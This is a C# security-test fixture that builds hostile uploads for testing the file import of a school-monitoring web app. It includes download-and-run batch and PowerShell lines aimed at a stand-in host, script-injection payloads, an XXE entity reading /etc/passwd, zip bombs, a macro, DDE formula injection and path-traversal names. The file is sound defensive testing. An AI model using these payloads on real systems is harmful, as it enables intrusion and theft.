using System.Globalization;
using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using Sosva.Objectivity.Domain.Monitoring;
using Sosva.Objectivity.Web.Importing;
using Sosva.Objectivity.Web.Execution;
using Sosva.Objectivity.Web.Scoring;
using Sosva.Objectivity.Web.Tests.Infrastructure;
using W = DocumentFormat.OpenXml.Wordprocessing;

namespace Sosva.Objectivity.Web.Tests.Security;

/// <summary>What a hostile case attacks: its content, or only its name (the content is then a harmless file).</summary>
public enum HostileKind
{
    Content = 0,
    Name,
}

/// <summary>
/// One hostile upload: a file name as the browser sends it, the bytes (built on first use: some are
/// large) and what makes it hostile. For <see cref="HostileKind.Name"/> cases the bytes are a small real
/// PDF; an upload point that takes no PDF gets the same name on a file it does take.
/// </summary>
public sealed class HostileFile(string id, string fileName, string description, Func<byte[]> content, HostileKind kind = HostileKind.Content)
{
    private readonly Lazy<byte[]> _content = new(content);

    public string Id { get; } = id;
    public string FileName { get; } = fileName;
    public string Description { get; } = description;
    public HostileKind Kind { get; } = kind;
    public byte[] Content => _content.Value;

    public override string ToString() => Id;
}

/// <summary>
/// The corpus of hostile uploads (OWASP File Upload Cheat Sheet; docs/decisions/007-hostile-uploads.md), all
/// generated in code: renamed programs, script in HTML and SVG, polyglots, empty and oversize files, zip bombs that
/// look like Office files, packages with DTDs, remote templates and macros, formula cells, and names that climb
/// folders, run too long, hide their extension behind a right-to-left override or carry control characters.
/// </summary>
public static class HostileFiles
{
    /// <summary>Where the corpus's remote references point (replaced by the tests with a listener of their own).</summary>
    public const string RemoteMarker = "http://remote.invalid/";

    /// <summary>How much a zip bomb's one big part expands to: hundreds of MB, well over the 100 MB import limit.</summary>
    public const long BombExpandedBytes = 320L * 1024 * 1024;

    /// <summary>The school the spreadsheet cases name (the tests create it).</summary>
    public const string School = "Школа А";

    /// <summary>The year the spreadsheet cases give (the tests' campaign year).</summary>
    public const int Year = 2024;

    private const string Script = "<script>alert(document.cookie)</script>";

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        new("pe-as-pdf", "order.pdf", "Windows PE program (MZ header) renamed .pdf", WindowsProgram),
        new("pe-as-docx", "plan.docx", "Windows PE program renamed .docx", WindowsProgram),
        new("pe-as-xlsx", "data.xlsx", "Windows PE program renamed .xlsx", WindowsProgram),
        new("pe-as-jpg", "photo.jpg", "Windows PE program renamed .jpg", WindowsProgram),
        new("elf-as-pdf", "report.pdf", "Linux ELF program renamed .pdf", LinuxProgram),
        new("exe", "setup.exe", "Windows program under its own extension", WindowsProgram),
        new("bat", "run.bat", "Windows batch script", () => Ascii("@echo off\r\npowershell -nop -w hidden -c \"iwr http://remote.invalid/x.exe -o %TEMP%\\x.exe\"\r\n%TEMP%\\x.exe\r\n")),
        new("ps1", "run.ps1", "PowerShell script", () => Ascii("Invoke-WebRequest http://remote.invalid/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\n")),
        new("html-as-pdf", "statement.pdf", "HTML page with a script, named .pdf", () => Ascii($"<!DOCTYPE html><html><body>{Script}</body></html>")),
        new("html", "page.html", "HTML page with a script", () => Ascii($"<!DOCTYPE html><html><body onload=\"alert(1)\">{Script}</body></html>")),
        new("svg", "chart.svg", "SVG image with a script and an onload handler", Svg),
        new("svg-as-png", "chart.png", "SVG image with a script, named .png", Svg),
        new("pdf-html-polyglot", "polyglot.pdf", "PDF header, an HTML page with a script, and a PDF /OpenAction JavaScript", PdfHtmlPolyglot),
        new("jpeg-html-polyglot", "picture.jpg", "a JPEG with an HTML page and a script appended after its end marker", JpegHtmlPolyglot),
        new("gifar", "avatar.jpg", "GIFAR: a GIF image with a Java archive appended, named .jpg", Gifar),
        new("empty", "empty.pdf", "zero bytes", () => []),
        new("oversize-evidence", "scan.pdf", "a PDF one byte over the evidence limit (20 MB)", () => PdfOfSize(new EvidenceOptions().MaxFileBytes + 1)),
        new("oversize-import", "big.xlsx", "a ZIP-looking file one byte over the import limit (10 MB)", () => ZipHeaderOfSize(new RoadmapImportOptions().MaxFileBytes + 1)),
        new("zip-bomb-xlsx", "bomb.xlsx", "an OPC workbook whose one part expands to 320 MB (a few hundred KB packed)", () => Bomb(Workbook(InputsSheet(formulas: false, RemoteMarker)))),
        new("zip-bomb-docx", "bomb.docx", "a Word package whose one part expands to 320 MB", () => Bomb(Document(withTitle: false))),
        new("zip-bomb-understated", "quiet-bomb.docx", "a Word package whose 320 MB part declares 1 KB in both ZIP headers", () => Understated(Bomb(Document(withTitle: false)))),
        new("zip-not-opc", "archive.docx", "a ZIP archive that is no Office package (a text and a program), named .docx", NotOpcZip),
        new("docx-xxe", "xxe.docx", "a Word package whose document.xml declares a DOCTYPE with external entities (XXE: a local file, a remote address)", () => DocxWithXxe(RemoteMarker)),
        new("xlsx-billion-laughs", "laughs.xlsx", "a workbook whose sheet declares nested entities (billion laughs)", XlsxWithBillionLaughs),
        new("docx-remote-template", "template.docx", "a Word roadmap that attaches a remote template and links a remote picture (template injection)", () => DocxWithRemoteTemplate(RemoteMarker)),
        new("docm-as-docx", "macro.docx", "a macro-enabled Word roadmap (vbaProject.bin) named .docx", MacroDocument),
        new("xlsx-formulas", "formulas.xlsx", "the inputs template filled with formulas: =HYPERLINK, a DDE =cmd|' /C calc'!A0, arithmetic", () => Workbook(InputsSheet(formulas: true, RemoteMarker))),
        new("xlsx-formula-text", "formula-text.xlsx", "the inputs template with texts that spreadsheets run as formulas (=, +, -, @)", FormulaTextWorkbook),
        new("xlsx-roadmap-formulas", "roadmap-formulas.xlsx", "a roadmap workbook whose measures are a DDE text «=cmd|...», a =HYPERLINK formula and «@SUM» text", RoadmapFormulaWorkbook),
        new("traversal-unix", "../../../etc/passwd.pdf", "a name that climbs folders (Unix separators)", SmallPdf, HostileKind.Name),
        new("traversal-windows", @"..\..\Windows\win.ini.pdf", "a name that climbs folders (Windows separators)", SmallPdf, HostileKind.Name),
        new("absolute-path", "/etc/cron.d/evil.pdf", "an absolute path", SmallPdf, HostileKind.Name),
        new("overlong-name", new string('a', 300) + ".pdf", "a name of 304 characters", SmallPdf, HostileKind.Name),
        new("rtl-override", "invoice\u202Efdp.exe", "a right-to-left override that shows «invoiceexe.pdf» for a name ending in .exe", SmallPdf, HostileKind.Name),
        new("control-chars", "scan\0\r\n\u0007\u001B[31m.pdf", "NUL, a line break, a bell and a terminal escape in the name", SmallPdf, HostileKind.Name),
        new("double-ext-exe", "scan.pdf.exe", "a program with a document's extension before its own", WindowsProgram),
        new("double-ext-pdf", "scan.exe.pdf", "a program named .exe.pdf", WindowsProgram),
    ];

    public static HostileFile Get(string id) => All.Single(f => f.Id == id);

    // --- programs and scripts ------------------------------------------------------------------------

    /// <summary>The start of a Windows program: DOS header «MZ», the DOS stub, the «PE» header.</summary>
    public static byte[] WindowsProgram()
    {
        var bytes = new byte[1024];
        "MZ"u8.CopyTo(bytes);
        bytes[2] = 0x90;
        bytes[4] = 0x03;
        bytes[60] = 0x80; // e_lfanew
        "This program cannot be run in DOS mode.\r\r\n$"u8.CopyTo(bytes.AsSpan(78));
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        bytes[0x84] = 0x64; // machine: x86-64
        bytes[0x85] = 0x86;
        return bytes;
    }

    /// <summary>The start of a Linux program: ELF, 64-bit, little-endian, executable, x86-64.</summary>
    public static byte[] LinuxProgram()
    {
        var bytes = new byte[1024];
        byte[] header = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0, 1, 0, 0, 0];
        header.CopyTo(bytes, 0);
        return bytes;
    }

    private static byte[] Svg() => Ascii(
        $"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"alert(1)\">{Script}<rect width=\"10\" height=\"10\"/></svg>");

    // --- polyglots -----------------------------------------------------------------------------------

    private static byte[] PdfHtmlPolyglot() => Ascii(
        "%PDF-1.4\n" +
        $"<html><body>{Script}</body></html>\n" +
        "1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n" +
        "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "3 0 obj << /S /JavaScript /JS (app.alert('polyglot')) >> endobj\n" +
        "trailer << /Root 1 0 R >>\n%%EOF\n");

    private static byte[] JpegHtmlPolyglot()
    {
        byte[] jpeg =
        [
            0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
            0xFF, 0xD9,
        ];
        return [.. jpeg, .. Ascii($"<html><body>{Script}</body></html>")];
    }

    private static byte[] Gifar()
    {
        byte[] gif =
        [
            .. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00,
            0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B,
        ];
        var jar = ZipFiles.Zip(("META-INF/MANIFEST.MF", Ascii("Manifest-Version: 1.0\r\nMain-Class: Evil\r\n")), ("Evil.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x34]));
        return [.. gif, .. jar];
    }

    // --- sizes ---------------------------------------------------------------------------------------

    /// <summary>A small real PDF: the carrier of the name cases.</summary>
    public static byte[] SmallPdf() =>
        Ascii("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    private static byte[] PdfOfSize(long size)
    {
        var bytes = new byte[size];
        Array.Fill(bytes, (byte)' ');
        "%PDF-1.4\n"u8.CopyTo(bytes);
        return bytes;
    }

    private static byte[] ZipHeaderOfSize(long size)
    {
        var bytes = new byte[size];
        "PK\u0003\u0004"u8.CopyTo(bytes);
        return bytes;
    }

    /// <summary>
    /// The package with one more part of <see cref="BombExpandedBytes"/> zeros. Zeros are written from
    /// one small buffer and deflate to about a thousandth, so neither the test nor the file is large.
    /// </summary>
    private static byte[] Bomb(byte[] package) => ZipFiles.Rebuild(package, add: archive =>
    {
        // Create mode streams into the deflater; Update mode would hold the whole part in memory.
        using var entry = archive.CreateEntry(BombPart(package), CompressionLevel.Optimal).Open();
        var zeros = new byte[1024 * 1024];
        for (long written = 0; written < BombExpandedBytes; written += zeros.Length)
            entry.Write(zeros, 0, (int)Math.Min(zeros.Length, BombExpandedBytes - written));
    });

    /// <summary>The name of a bomb's big part: a picture, as Word and Excel keep them.</summary>
    public static string BombPart(byte[] package) =>
        ZipFiles.PartNames(package).Any(n => n.StartsWith("xl/", StringComparison.Ordinal)) ? "xl/media/image1.png" : "word/media/image1.png";

    /// <summary>Writes 1 KB as the big part's size into its local header and its central directory record.</summary>
    private static byte[] Understated(byte[] zip)
    {
        var name = Encoding.ASCII.GetBytes(BombPart(zip));
        var patched = 0;
        for (var i = 0; i + 46 < zip.Length; i++)
        {
            var signature = BitConverter.ToUInt32(zip, i);
            if (signature == 0x04034b50 && zip.AsSpan(i + 30, name.Length).SequenceEqual(name))
            {
                BitConverter.TryWriteBytes(zip.AsSpan(i + 22, 4), 1024);
                patched++;
            }
            else if (signature == 0x02014b50 && zip.AsSpan(i + 46, name.Length).SequenceEqual(name))
            {
                BitConverter.TryWriteBytes(zip.AsSpan(i + 24, 4), 1024);
                patched++;
            }
        }

        if (patched != 2) throw new InvalidOperationException("The bomb's part has a local header and a central record.");
        return zip;
    }

    // --- packages ------------------------------------------------------------------------------------

    private static byte[] NotOpcZip() => ZipFiles.Zip(("readme.txt", Ascii("Open setup.exe")), ("setup.exe", WindowsProgram()));

    public static byte[] DocxWithXxe(string remote)
    {
        var xml = $"""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "{remote}xxe">]>
            <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
            <w:p><w:r><w:t>&xxe;&remote;</w:t></w:r></w:p></w:body></w:document>
            """;
        return ZipFiles.ReplacePart(Document(withTitle: false), "word/document.xml", Utf8(xml));
    }

    private static byte[] XlsxWithBillionLaughs()
    {
        var entities = new StringBuilder("<!ENTITY l0 \"ha\">");
        for (var i = 1; i <= 9; i++)
            entities.Append(CultureInfo.InvariantCulture, $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">");
        var sheet = $"""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <!DOCTYPE worksheet [{entities}]>
            <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
            <row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>
            """;
        return Workbook(sheet);
    }

    /// <summary>
    /// A real roadmap in Word that also attaches a template from <see cref="RemoteMarker"/> (the Office
    /// «template injection»), links a picture there and holds an ordinary hyperlink.
    /// </summary>
    public static byte[] DocxWithRemoteTemplate(string remote)
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new W.Document(new W.Body(RoadmapTable()));
            var settings = main.AddNewPart<DocumentSettingsPart>();
            var template = settings.AddExternalRelationship(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri(remote + "template.dotm"));
            settings.Settings = new W.Settings(new W.AttachedTemplate { Id = template.Id });
            main.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri(remote + "pixel.png"));
            main.AddHyperlinkRelationship(new Uri("https://school1.example/"), true);
            main.Document.Save();
        }

        return stream.ToArray();
    }

    /// <summary>
    /// A real roadmap in Word, saved as a macro-enabled document (.docm: its main part's type and a VBA
    /// project with an AutoOpen macro, as Word writes them), named .docx.
    /// </summary>
    private static byte[] MacroDocument()
    {
        const string ContentTypes = """
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            <Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
            <Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
            </Types>
            """;
        const string DocumentRelationships = """
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
            </Relationships>
            """;
        byte[] vba = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Ascii("Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n")];
        var docx = Document(withTitle: false);
        var parts = ZipFiles.PartNames(docx);
        if (!parts.Contains("word/document.xml")) throw new InvalidOperationException("The SDK names the main part /word/document.xml.");
        return ZipFiles.Rebuild(docx,
            replace: part => part switch
            {
                "[Content_Types].xml" => Utf8(ContentTypes),
                "word/_rels/document.xml.rels" => Utf8(DocumentRelationships),
                _ => null,
            },
            add: archive =>
            {
                if (!parts.Contains("word/_rels/document.xml.rels"))
                {
                    using var relationships = archive.CreateEntry("word/_rels/document.xml.rels").Open();
                    relationships.Write(Utf8(DocumentRelationships));
                }

                using var project = archive.CreateEntry("word/vbaProject.bin").Open();
                project.Write(vba);
            });
    }

    /// <summary>
    /// A Word roadmap of one section and two measures (no title paragraph: the import names it after the
    /// file). Built with the Open XML SDK as Word lays it out.
    /// </summary>
    public static byte[] Document(bool withTitle)
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            var body = new W.Body();
            if (withTitle) body.Append(new W.Paragraph(new W.Run(new W.Text("План мероприятий"))));
            body.Append(RoadmapTable());
            main.Document = new W.Document(body);
            main.Document.Save();
        }

        return stream.ToArray();
    }

    /// <summary>The roadmap's rows: header, a section, two measures.</summary>
    public static IReadOnlyList<IReadOnlyList<string>> RoadmapRows { get; } =
    [
        ["№ п/п", "Мероприятия", "Сроки", "Ответственные"],
        ["1.", "Нормативное обеспечение", "", ""],
        ["1.1.", "Положение о проведении ВПР", "До 26.03.2024 г.", "Руководители ОУ"],
        ["1.2.", "Анализ результатов ВПР", "Май 2024", "Руководители ОУ"],
    ];

    private static W.Table RoadmapTable()
    {
        var table = new W.Table(new W.TableProperties(new W.TableBorders(new W.TopBorder { Val = W.BorderValues.Single })));
        foreach (var row in RoadmapRows)
        {
            var tr = new W.TableRow();
            foreach (var cell in row)
                tr.Append(new W.TableCell(new W.Paragraph(new W.Run(new W.Text(cell) { Space = DocumentFormat.OpenXml.SpaceProcessingModeValues.Preserve }))));
            table.Append(tr);
        }

        return table;
    }

    // --- spreadsheets --------------------------------------------------------------------------------

    /// <summary>
    /// The inputs template's header row and one row for <see cref="School"/>. With <paramref name="formulas"/>
    /// the school, the year and the P1 counts are formulas with the values Excel would have cached:
    /// =HYPERLINK to a remote address, arithmetic, and the DDE call «=cmd|' /C calc'!A0».
    /// Without, plain values (the sheet a bomb's or a name case's workbook carries).
    /// </summary>
    public static string InputsSheet(bool formulas, string remote)
    {
        var columns = InputTemplate.Columns(Methodologies.KazachinskoLensky2023);
        var cells = new List<string>();
        for (var c = 0; c < columns.Count; c++)
            cells.Add(InlineText(1, c, columns[c].Header));
        var row = new List<string>();
        int Col(string header) => columns.ToList().FindIndex(col => col.Header == header);
        if (formulas)
        {
            row.Add(FormulaCell(2, Col(InputTemplate.SchoolColumn), $"HYPERLINK(\"{remote}\",\"{School}\")", School, text: true));
            row.Add(FormulaCell(2, Col(InputTemplate.YearColumn), "2000+24", Year.ToString(CultureInfo.InvariantCulture)));
            row.Add(FormulaCell(2, Col("P1: " + IndicatorValue.FieldNames.OnTime), "cmd|' /C calc'!A0", "2"));
            row.Add(FormulaCell(2, Col("P1: " + IndicatorValue.FieldNames.WithErrors), "1-1", "0"));
            row.Add(FormulaCell(2, Col("P1: " + IndicatorValue.FieldNames.Late), "SUM(A1:XFD1048576)*0+1", "1"));
        }
        else
        {
            row.Add(InlineText(2, Col(InputTemplate.SchoolColumn), School));
            row.Add(NumberCell(2, Col(InputTemplate.YearColumn), Year));
            row.Add(NumberCell(2, Col("P1: " + IndicatorValue.FieldNames.OnTime), 2));
            row.Add(NumberCell(2, Col("P1: " + IndicatorValue.FieldNames.WithErrors), 0));
            row.Add(NumberCell(2, Col("P1: " + IndicatorValue.FieldNames.Late), 1));
        }

        return SheetXml([string.Concat(cells), string.Concat(row)]);
    }

    /// <summary>The inputs template with formula-like texts: strings, not formulas, in cells that want numbers.</summary>
    private static byte[] FormulaTextWorkbook()
    {
        var columns = InputTemplate.Columns(Methodologies.KazachinskoLensky2023);
        int Col(string header) => columns.ToList().FindIndex(col => col.Header == header);
        var header = string.Concat(columns.Select((col, c) => InlineText(1, c, col.Header)));
        var row = string.Concat(
            InlineText(2, Col(InputTemplate.SchoolColumn), $"=HYPERLINK(\"{RemoteMarker}\",\"{School}\")"),
            NumberCell(2, Col(InputTemplate.YearColumn), Year),
            InlineText(2, Col("P1: " + IndicatorValue.FieldNames.OnTime), "=cmd|' /C calc'!A0"),
            InlineText(2, Col("P1: " + IndicatorValue.FieldNames.WithErrors), "@SUM(1+1)*cmd|' /C calc'!A0"),
            InlineText(2, Col("P1: " + IndicatorValue.FieldNames.Late), "-2+3+cmd|' /C calc'!A0"));
        return Workbook(SheetXml([header, row]));
    }

    /// <summary>Texts that a spreadsheet would run as formulas, the measure titles of <see cref="RoadmapFormulaWorkbook"/>.</summary>
    public const string DdeText = "=cmd|' /C calc'!A0";

    public const string AtText = "@SUM(1+1)*cmd|' /C calc'!A0";

    /// <summary>What Excel shows for the =HYPERLINK measure (its cached value).</summary>
    public const string HyperlinkShown = "Нажмите, чтобы открыть";

    /// <summary>
    /// A roadmap as a workbook: one section and three measures whose titles are the text <see cref="DdeText"/>,
    /// a =HYPERLINK formula showing <see cref="HyperlinkShown"/>, and the text <see cref="AtText"/>.
    /// </summary>
    private static byte[] RoadmapFormulaWorkbook()
    {
        string[] header = ["№ п/п", "Мероприятия", "Сроки", "Ответственные"];
        var rows = new List<string>
        {
            string.Concat(header.Select((h, c) => InlineText(1, c, h))),
            InlineText(2, 0, "1.") + InlineText(2, 1, "Нормативное обеспечение"),
            InlineText(3, 0, "1.1.") + InlineText(3, 1, DdeText) + InlineText(3, 2, "Май 2024") + InlineText(3, 3, "Руководители ОУ"),
            InlineText(4, 0, "1.2.") + FormulaCell(4, 1, $"HYPERLINK(\"{RemoteMarker}\",\"{HyperlinkShown}\")", HyperlinkShown, text: true)
                + InlineText(4, 2, "Май 2024") + InlineText(4, 3, "Руководители ОУ"),
            InlineText(5, 0, "1.3.") + InlineText(5, 1, AtText) + InlineText(5, 2, "Май 2024") + InlineText(5, 3, "Руководители ОУ"),
        };
        return Workbook(SheetXml(rows));
    }

    /// <summary>A bias list as a workbook: a header and <see cref="School"/> (the name cases' carrier for the list import).</summary>
    public static byte[] SchoolList() => Workbook(SheetXml([InlineText(1, 0, "Наименование ОО"), InlineText(2, 0, School)]));

    /// <summary>A workbook of one sheet «Данные» with the given sheet XML, as a minimal OPC package.</summary>
    public static byte[] Workbook(string sheetXml) => ZipFiles.Zip(
        ("[Content_Types].xml", Utf8("""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            <Default Extension="png" ContentType="image/png"/>
            <Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
            <Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
            </Types>
            """)),
        ("_rels/.rels", Utf8("""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
            </Relationships>
            """)),
        ("xl/workbook.xml", Utf8($"""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
            <sheets><sheet name="{InputTemplate.SheetName}" sheetId="1" r:id="rId1"/></sheets></workbook>
            """)),
        ("xl/_rels/workbook.xml.rels", Utf8("""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
            </Relationships>
            """)),
        ("xl/worksheets/sheet1.xml", Utf8(sheetXml)));

    private static string SheetXml(IEnumerable<string> rows) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
        + string.Concat(rows.Select((cells, r) => $"<row r=\"{(r + 1).ToString(CultureInfo.InvariantCulture)}\">{cells}</row>"))
        + "</sheetData></worksheet>";

    private static string Ref(int row, int column)
    {
        var name = "";
        for (var c = column + 1; c > 0; c = (c - 1) / 26)
            name = (char)('A' + ((c - 1) % 26)) + name;
        return name + row.ToString(CultureInfo.InvariantCulture);
    }

    private static string InlineText(int row, int column, string text) =>
        $"<c r=\"{Ref(row, column)}\" t=\"inlineStr\"><is><t>{System.Security.SecurityElement.Escape(text)}</t></is></c>";

    // The type spelled out: ClosedXML 0.95 reads an untyped number as empty when a workbook has no styles part.
    private static string NumberCell(int row, int column, int value) =>
        $"<c r=\"{Ref(row, column)}\" t=\"n\"><v>{value.ToString(CultureInfo.InvariantCulture)}</v></c>";

    private static string FormulaCell(int row, int column, string formula, string cached, bool text = false) =>
        $"<c r=\"{Ref(row, column)}\"{(text ? " t=\"str\"" : "")}><f>{System.Security.SecurityElement.Escape(formula)}</f><v>{System.Security.SecurityElement.Escape(cached)}</v></c>";

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
